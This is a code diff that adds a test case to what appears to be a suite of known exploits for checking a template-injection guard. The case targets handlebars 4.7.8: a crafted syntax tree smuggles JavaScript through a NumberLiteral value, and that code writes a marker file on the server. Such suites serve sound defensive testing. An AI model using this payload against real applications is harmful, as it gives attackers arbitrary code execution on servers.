@@ -53,4 +53,39 @@ export default [
     },
     benign: benign('/handlebars/handlebars-4.7.6'),
   },
+  {
+    app: 'handlebars',
+    package: 'handlebars-4.7.8',
+    id: 'CVE-2026-33937',
+    guard: 'template-injection',
+    title: 'in place of a template comes a syntax tree, whose number is code',
+    attack(places) {
+      const file = places.made();
+      const code = `process.getBuiltinModule('fs').writeFileSync('${file}','')`;
+      const nameOf = (original: string, ...parts: string[]) => ({
+        type: 'PathExpression',
+        data: false,
+        depth: 0,
+        parts,
+        original,
+      });
+      const statement = {
+        type: 'MustacheStatement',
+        escaped: true,
+        strip: { open: false, close: false },
+        loc: null,
+        path: nameOf('lookup', 'lookup'),
+        params: [
+          nameOf('this'),
+          { type: 'NumberLiteral', value: `{},{})) + (${code}) + container.escapeExpression((0`, original: 1 },
+        ],
+      };
+      const template = { type: 'Program', body: [statement], blockParams: [], strip: {} };
+      return {
+        requests: [postJson('/handlebars/handlebars-4.7.8', { template })],
+        effect: { kind: 'file', path: file },
+      };
+    },
+    benign: benign('/handlebars/handlebars-4.7.8'),
+  },
 ] satisfies KnownCase[];
